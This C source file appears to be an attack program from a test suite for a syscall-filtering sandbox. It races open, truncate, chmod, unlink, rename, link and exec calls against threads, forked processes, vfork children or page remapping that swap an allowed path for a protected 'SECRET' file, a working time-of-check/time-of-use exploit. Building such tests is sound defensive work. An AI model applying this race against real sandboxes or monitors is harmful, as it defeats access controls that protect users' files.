/*
 * path_swap WHO HOW GOOD BAD: a call takes its path from memory that somebody else changes between two paths
 * all the time.
 *
 *   WHO  thread   a sibling thread
 *        process  another process, through a shared mapping: stopping our threads would not help
 *        vfork    a child of vfork, in our memory
 *        pages    a sibling thread that maps another page under the end of the path, so that reading it faults
 *   HOW  read, write (opens BAD so), openat2 (flags in memory: the struct flips as well), truncate, chmod,
 * unlink, rename, link, exec
 *
 * GOOD may be had, BAD begins with "SECRET" and may not.
 */
#include <linux/openat2.h>

#include "attack.h"

struct shared {
	char path[256];
	struct open_how how;
};

static struct shared *mem;
static char *path;
static const char *good, *bad;
static bool flips_how;

static void flip(void)
{
	unsigned int n = 0;

	while (!atomic_load_explicit(&attack_over, memory_order_relaxed)) {
		strcpy(mem->path, n & 1 ? bad : good);
		if (flips_how)
			mem->how.flags = n & 1 ? O_RDWR : O_RDONLY;
		__asm__ volatile("" ::: "memory");
		for (volatile unsigned int i = 0; i < (n * 7919) % 300; i++)
			;
		n++;
	}
}

static void *flip_thread(void *unused)
{
	flip();
	return unused;
}

/* The two paths differ in their last component only, which lies on a page of its own. */
static void *flip_pages(void *arg)
{
	int fd = *(int *)arg;
	char *page = (char *)(((uintptr_t)path + 4095) & ~(uintptr_t)4095);

	for (off_t n = 0; !atomic_load(&attack_over); n++) {
		if (mmap(page, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_FIXED, fd, n % 2 * 4096) == MAP_FAILED)
			die("mmap");
		madvise(page, 4096, MADV_DONTNEED);
		for (volatile off_t i = 0; i < (n * 7919) % 300; i++)
			;
	}
	return NULL;
}

static void make_pages(void)
{
	static int fd;
	size_t prefix = (size_t)(strrchr(good, '/') + 1 - good);
	char *two = mmap(NULL, 8192, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);

	fd = memfd_create("pages", MFD_CLOEXEC);
	if (two == MAP_FAILED || fd < 0 || strncmp(good, bad, prefix) != 0 || ftruncate(fd, 8192) < 0 ||
	    pwrite(fd, good + prefix, strlen(good + prefix) + 1, 0) < 0 || pwrite(fd, bad + prefix, strlen(bad + prefix) + 1, 4096) < 0)
		die("pages");
	path = memcpy(two + 4096 - prefix, good, prefix);
	strcpy(two + 4096, good + prefix);
	attack_thread(flip_pages, &fd);
}

/* One attempt; true where it had effect on BAD. */
static bool attempt(const char *how)
{
	struct stat st;

	if (strcmp(how, "read") == 0)
		return attack_is_secret((int)SYS(openat, AT_FDCWD, path, O_RDONLY));
	if (strcmp(how, "write") == 0)
		return attack_is_secret((int)SYS(openat, AT_FDCWD, path, O_RDWR));
	if (strcmp(how, "openat2") == 0) {
		int fd = (int)SYS(openat2, AT_FDCWD, path, &mem->how, sizeof(mem->how));
		bool writes = fd >= 0 && (fcntl(fd, F_GETFL) & O_ACCMODE) == O_RDWR;

		return attack_is_secret(fd) && writes;
	}
	if (strcmp(how, "truncate") == 0) {
		SYS(truncate, path, 3);
		return stat(bad, &st) == 0 && st.st_size == 3;
	}
	if (strcmp(how, "chmod") == 0) {
		SYS(chmod, path, 0600);
		return stat(bad, &st) == 0 && (st.st_mode & 0777) == 0600;
	}
	if (strcmp(how, "unlink") == 0) {
		SYS(unlink, path);
		close(open(good, O_WRONLY | O_CREAT, 0644));
		return lstat(bad, &st) < 0;
	}
	if (strcmp(how, "rename") == 0) {
		SYS(rename, path, "moved");
		close(open(good, O_WRONLY | O_CREAT, 0644));
		return attack_is_secret(open("moved", O_RDONLY));
	}
	if (strcmp(how, "link") == 0) {
		unlink("linked");
		SYS(link, path, "linked");
		return attack_is_secret(open("linked", O_RDWR));
	}
	if (strcmp(how, "exec") == 0) {
		char name[] = "x";
		char *const argv[] = {name, NULL};
		pid_t pid = fork();
		int status;

		if (pid == 0) {
			SYS(execve, path, argv, argv + 1);
			_exit(3);
		}
		return waitpid(pid, &status, 0) == pid && WIFEXITED(status) && WEXITSTATUS(status) == 42;
	}
	exit(BROKEN);
}

static bool race(const char *how)
{
	double end = attack_end();

	for (unsigned int i = 0;; i++) {
		if (attempt(how))
			return true;
		if ((i & 15) == 0 && attack_clock() > end)
			return false;
	}
}

int main(int argc, char **argv)
{
	pid_t pid;
	int status;

	if (argc != 5)
		die("usage");
	good = argv[3];
	bad = argv[4];
	flips_how = strcmp(argv[2], "openat2") == 0;
	mem = mmap(NULL, sizeof(*mem), PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	if (mem == MAP_FAILED)
		die("mmap");
	strcpy(mem->path, good);
	path = mem->path;
	if (strcmp(argv[1], "pages") == 0) {
		make_pages();
		attack_exit(race(argv[2]));
	}
	if (strcmp(argv[1], "thread") == 0) {
		attack_thread(flip_thread, NULL);
		attack_exit(race(argv[2]));
	}
	if (strcmp(argv[1], "process") == 0) {
		pid = fork();
		if (pid == 0)
			flip();
		bool got = race(argv[2]);
		kill(pid, SIGKILL);
		waitpid(pid, &status, 0);
		attack_exit(got);
	}
	/* The child of vfork makes the calls; its parent's other thread changes their path. */
	attack_thread(flip_thread, NULL);
	pid = vfork();
	if (pid == 0)
		_exit(race(argv[2]) ? GOT : HELD);
	if (waitpid(pid, &status, 0) != pid || !WIFEXITED(status))
		die("vfork");
	attack_exit(WEXITSTATUS(status) == GOT);
}
